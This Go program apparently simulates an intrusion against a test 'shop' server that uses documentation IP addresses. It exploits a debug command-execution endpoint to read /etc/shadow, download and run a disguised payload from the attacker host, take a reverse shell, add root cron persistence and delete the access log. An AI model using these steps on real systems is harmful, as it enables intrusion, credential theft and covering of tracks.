package main

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/url"
	"os"
	"strings"
	"time"
)

// Addresses of those who are outside, of the blocks that are for documentation.
const (
	visitorAddress  = "198.51.100.7"
	intruderAddress = "203.0.113.66"
	shellPort       = "4444"
)

// get asks the shop for a page, from an address.
func get(from, shop, target string) error {
	dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 10 * time.Second}
	c, err := dialer.Dial("tcp4", shop)
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := fmt.Fprintf(c, "GET %s HTTP/1.0\r\nHost: shop.example\r\n\r\n", target); err != nil {
		return err
	}
	page, err := io.ReadAll(c)
	if err == nil && !strings.HasPrefix(string(page), "HTTP/1.0 200 OK\r\n") {
		err = fmt.Errorf("%s: no page: %q", target, page)
	}
	return err
}

// visitors look at the shop at args[0].
func visitors(args []string) error {
	for _, target := range []string{"/", "/", "/cart", "/", "/cart"} {
		if err := get(visitorAddress, args[0], target); err != nil {
			return err
		}
		time.Sleep(300 * time.Millisecond)
	}
	return nil
}

// debug is the page of the shop that runs a program.
func debug(program ...string) string {
	return "/debug?" + url.Values{"run": program}.Encode()
}

// intruder finds the hole of the shop at args[0], puts a program there, and talks
// to it.
func intruder(args []string) error {
	drop, err := net.Listen("tcp4", intruderAddress+":80")
	if err != nil {
		return err
	}
	shell, err := net.Listen("tcp4", intruderAddress+":"+shellPort)
	if err != nil {
		return err
	}
	served := make(chan error, 1)
	go func() { served <- serveProgram(drop) }()
	shop := args[0]
	for _, target := range []string{
		"/", debug("id"),
		debug("sh", "-c", "id; cat /etc/shadow"),
		debug("sh", "-c", "mkdir /tmp/.cache; wget -qO /tmp/.cache/kworkerd http://"+intruderAddress+"/k"),
	} {
		if err := get(intruderAddress, shop, target); err != nil {
			return err
		}
		time.Sleep(500 * time.Millisecond)
	}
	if err := <-served; err != nil {
		return err
	}
	if err := get(intruderAddress, shop, debug("sh", "-c", "chmod 755 /tmp/.cache/kworkerd; /tmp/.cache/kworkerd >/dev/null 2>&1 &")); err != nil {
		return err
	}
	return typeCommands(shell)
}

// serveProgram gives this program to whoever asks.
func serveProgram(l net.Listener) error {
	c, err := l.Accept()
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := request(c); err != nil {
		return err
	}
	program, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	_, err = fmt.Fprintf(c, "HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(program), program)
	return err
}

// typeCommands types into the shell that calls.
func typeCommands(l net.Listener) error {
	c, err := l.Accept()
	if err != nil {
		return err
	}
	defer c.Close()
	shown := make(chan struct{})
	go func() { _, _ = io.Copy(os.Stdout, c); close(shown) }()
	for _, command := range []string{
		"uname -a", "ps", "cat /etc/shadow",
		"echo '*/5 * * * * root /tmp/.cache/kworkerd' | tee /etc/cron.d/update",
		"rm -f " + accessLog,
		"exit",
	} {
		time.Sleep(700 * time.Millisecond)
		if _, err := fmt.Fprintln(c, command); err != nil {
			return err
		}
	}
	select {
	case <-shown:
		return nil
	case <-time.After(time.Minute):
		return errors.New("the shell does not end")
	}
}
